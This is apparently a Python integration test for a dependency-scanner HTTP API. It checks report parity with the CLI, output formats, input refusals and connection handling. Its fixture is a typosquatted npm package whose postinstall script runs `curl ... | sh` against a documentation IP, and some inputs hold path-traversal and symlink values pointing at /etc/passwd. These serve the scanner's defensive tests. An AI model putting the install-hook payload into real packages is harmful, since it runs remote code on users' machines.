#!/usr/bin/env python3
"""POST /v1/scan/deps against a running warden: the same report as `warden scan-deps` for the
same project (JSON file map and tar.gz alike), every format, the refusals (paths with '..',
absolute paths, links, bad bodies), pipelined scans answered in order, and a client that
leaves mid-scan. Standard library only; loopback only; every wait is bounded.

usage: deps_api.py WARDEN_BINARY
"""
import gzip
import io
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tarfile
import tempfile
import time

FAILED = []


def check(name, cond, detail=""):
    print(("ok   - " if cond else "FAIL - ") + name + ("" if cond else ": " + str(detail)[:800]))
    if not cond:
        FAILED.append(name)


PROJECT = {
    "package.json": json.dumps(
        {"name": "app", "version": "1.0.0", "license": "MIT",
         "dependencies": {"lodahs": "^1.0.0", "helper": "file:../helper"}}),
    "package-lock.json": json.dumps(
        {"name": "app", "lockfileVersion": 3,
         "packages": {
             "": {"name": "app", "dependencies": {"lodahs": "^1.0.0", "helper": "file:../helper"}},
             "node_modules/lodahs": {
                 "version": "1.0.0",
                 "resolved": "http://registry.npmjs.org/lodahs/-/lodahs-1.0.0.tgz",
                 "integrity": "sha1-AAAAAAAAAAAAAAAAAAAAAAAAAAA="},
             "node_modules/helper": {"resolved": "../helper", "link": True}}}),
    "node_modules/lodahs/package.json": json.dumps(
        {"name": "lodahs", "version": "1.0.0", "license": "MIT",
         "scripts": {"postinstall": "node setup.js"}}),
    "node_modules/lodahs/setup.js":
        "const c = require('child_process');\nc.exec('curl -s http://203.0.113.9/x | sh');\n",
}


def tarball(files, top="", gz=True, extra=None):
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, text in sorted(files.items()):
            data = text.encode()
            ti = tarfile.TarInfo(top + name)
            ti.size, ti.mtime = len(data), 0
            tf.addfile(ti, io.BytesIO(data))
        for ti in extra or []:
            tf.addfile(ti)
    raw = bio.getvalue()
    return gzip.compress(raw, mtime=0) if gz else raw


def request(port, method, path, body=b"", ctype="application/json", timeout=30):
    """One request on its own connection; (status, headers dict, body bytes)."""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
        head = (f"{method} {path} HTTP/1.1\r\nHost: x\r\nContent-Type: {ctype}\r\n"
                f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n").encode()
        s.sendall(head + body)
        return read_response(s)


def read_response(s, buf=b""):
    while b"\r\n\r\n" not in buf:
        chunk = s.recv(65536)
        if not chunk:
            raise IOError("connection closed before the head")
        buf += chunk
    head, _, rest = buf.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    status = int(lines[0].split()[1])
    hdrs = {k.strip().lower(): v.strip() for k, v in (l.split(":", 1) for l in lines[1:])}
    n = int(hdrs.get("content-length", "0"))
    while len(rest) < n:
        chunk = s.recv(65536)
        if not chunk:
            raise IOError("connection closed in the body")
        rest += chunk
    return status, hdrs, rest[:n], rest[n:]


def main():
    warden = sys.argv[1]
    tmp = tempfile.mkdtemp(prefix="warden-deps-api-")
    err_path = os.path.join(tmp, "warden.err")
    proc = subprocess.Popen(
        [warden, "serve", "--listen", "127.0.0.1:0", "--workers", "1",
         "--set", "log.format=json", "--set", "prompt_guard.enabled=false",
         "--set", "output_guard.enabled=false"],
        stdout=subprocess.DEVNULL, stderr=open(err_path, "wb"))
    try:
        port = None
        for _ in range(300):
            m = re.search(r'"event":"listening".*?"port":(\d+)', open(err_path).read())
            if m:
                port = int(m.group(1))
                break
            if proc.poll() is not None:
                break
            time.sleep(0.1)
        if port is None:
            print(open(err_path).read(), file=sys.stderr)
            print("FAIL - warden did not start")
            return 1
        run(warden, port, tmp)
        # The server is still healthy after everything above.
        st, _, _, _ = request(port, "GET", "/healthz")
        check("healthz after the scans", st == 200, st)
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=30)
        except subprocess.TimeoutExpired:
            proc.kill()
        shutil.rmtree(tmp, ignore_errors=True)
    print(f"{len(FAILED)} failed" if FAILED else "all passed")
    return 1 if FAILED else 0


def run(warden, port, tmp):
    # The CLI's deterministic report of the same project, written to disk.
    proj = os.path.join(tmp, "app")
    for name, text in PROJECT.items():
        path = os.path.join(proj, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(text)
    cli = subprocess.run([warden, "scan-deps", proj, "--deterministic-output"],
                         capture_output=True, timeout=60)
    check("CLI scan exits 1 (findings)", cli.returncode == 1, cli.stderr)
    cli_report = json.loads(cli.stdout)
    rules = {f["rule_id"] for f in cli_report["findings"]}
    check("CLI finds the typosquat, the install script, the sideload and the lockfile issues",
          {"L2-TYPO-001", "L2-POST-001", "L2-SIDELOAD-001", "L2-LOCK-001"} <= rules, rules)

    body = json.dumps({"files": PROJECT}).encode()
    st, h, out, _ = request(port, "POST", "/v1/scan/deps?deterministic=1", body)
    check("JSON file map: 200 application/json", st == 200 and
          h.get("content-type", "").startswith("application/json"), (st, out[:300]))
    check("JSON file map: the CLI's report, byte for byte", out == cli.stdout,
          out.decode(errors="replace")[:600])

    st, h, out_tgz, _ = request(port, "POST", "/v1/scan/deps?deterministic=1",
                                tarball(PROJECT, top="app/"), "application/gzip")
    check("tar.gz with a top folder: the same report", st == 200 and out_tgz == cli.stdout,
          (st, out_tgz[:300]))
    st, _, out_tar, _ = request(port, "POST", "/v1/scan/deps?deterministic=true",
                                tarball(PROJECT, gz=False), "application/x-tar")
    check("plain tar: the same report", st == 200 and out_tar == cli.stdout, (st, out_tar[:300]))

    st, _, timed, _ = request(port, "POST", "/v1/scan/deps", body)
    check("default output carries the run's time", st == 200 and b'"started_at"' in timed, timed[:200])

    for fmt, ctype, mark in (("sarif", "application/sarif+json", b'"version": "2.1.0"'),
                             ("cyclonedx", "application/vnd.cyclonedx+json", b'"specVersion": "1.6"'),
                             ("github", "text/plain", b"::error file="),
                             ("table", "text/plain", b"L2-TYPO-001")):
        st, h, out, _ = request(port, "POST", f"/v1/scan/deps?format={fmt}&deterministic=1", body)
        check(f"?format={fmt}", st == 200 and h.get("content-type", "").startswith(ctype)
              and mark in out, (st, h.get("content-type"), out[:300]))

    def refused(name, status, code, body, ctype="application/json", path="/v1/scan/deps",
                method="POST", text=None):
        st, _, out, _ = request(port, method, path, body, ctype)
        try:
            err = json.loads(out)["error"]
        except Exception:  # noqa: BLE001 - any non-JSON answer is a failure
            err = {}
        ok = st == status and err.get("code") == code and (text is None or text in err.get("message", ""))
        check(name, ok, (st, out[:400]))

    refused("'..' in a file map path", 400, "invalid_path",
            json.dumps({"files": {"package.json": "{}", "../etc/passwd": "x"}}).encode(),
            text="../etc/passwd")
    refused("absolute path in a file map", 400, "invalid_path",
            json.dumps({"files": {"/package.json": "{}"}}).encode())
    link = tarfile.TarInfo("node_modules/x/evil")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
    refused("symbolic link out of the project", 400, "invalid_path",
            tarball({"package.json": "{}"}, extra=[link]), "application/gzip",
            text="node_modules/x/evil is a symbolic link to /etc/passwd")
    # npm's .bin links stay inside: skipped, and the report is the CLI's.
    shim = tarfile.TarInfo("node_modules/.bin/lodahs")
    shim.type, shim.linkname = tarfile.SYMTYPE, "../lodahs/setup.js"
    st, _, out, _ = request(port, "POST", "/v1/scan/deps?deterministic=1",
                            tarball(PROJECT, extra=[shim]), "application/gzip")
    check("a link inside the project is skipped", st == 200 and out == cli.stdout, (st, out[:300]))
    dotdot = tarfile.TarInfo("../outside.js")
    refused("'..' in a tarball", 400, "invalid_path",
            tarball({"package.json": "{}"}, extra=[dotdot]), "application/gzip", text="../outside.js")
    refused("neither JSON nor a tarball", 400, "invalid_archive", b"hello, world" * 100,
            "application/octet-stream", text="not a tar archive")
    refused("broken JSON", 400, "invalid_request", b'{"files": {', text="line 1")
    refused("no files object", 400, "invalid_request", b'{"file": {}}', text='"files"')
    refused("a file that is not a string", 400, "invalid_request",
            b'{"files": {"package.json": 1}}', text="number")
    refused("no package.json", 400, "invalid_project", b'{"files": {"README.md": "x"}}',
            text="package.json")
    refused("unknown format", 400, "invalid_request", body, path="/v1/scan/deps?format=xml")
    refused("GET", 405, "method_not_allowed", b"", method="GET")

    # Two scans pipelined on one connection: both answered, in order.
    with socket.create_connection(("127.0.0.1", port), timeout=30) as s:
        one = (f"POST /v1/scan/deps?format=github HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}"
               f"\r\n\r\n").encode() + body
        two = (f"POST /v1/scan/deps?deterministic=1 HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}"
               f"\r\n\r\n").encode() + body
        s.sendall(one + two)
        st1, h1, out1, rest = read_response(s)
        st2, h2, out2, _ = read_response(s, rest)
        check("pipelined scans answered in order",
              st1 == 200 and out1.startswith(b"::") and st2 == 200 and out2 == cli.stdout,
              (st1, out1[:80], st2, out2[:80]))

    # A client that leaves while its scan runs: nothing breaks.
    for _ in range(3):
        s = socket.create_connection(("127.0.0.1", port), timeout=30)
        s.sendall((f"POST /v1/scan/deps HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n\r\n")
                  .encode() + body)
        s.close()
    # Abandoned scans still finish on their threads: meanwhile the worker's scan slots are
    # full, and it says so (503 scanner_busy with Retry-After) rather than queueing.
    busy = False
    for _ in range(100):
        st, h, out, _ = request(port, "POST", "/v1/scan/deps?deterministic=1", body)
        if st != 503:
            break
        busy |= b"scanner_busy" in out and h.get("retry-after") == "1"
        time.sleep(0.1)
    check("scans go on after clients left mid-scan", st == 200 and out == cli.stdout, st)
    print(f"# busy answers seen while the abandoned scans ran: {busy}")


if __name__ == "__main__":
    sys.exit(main())
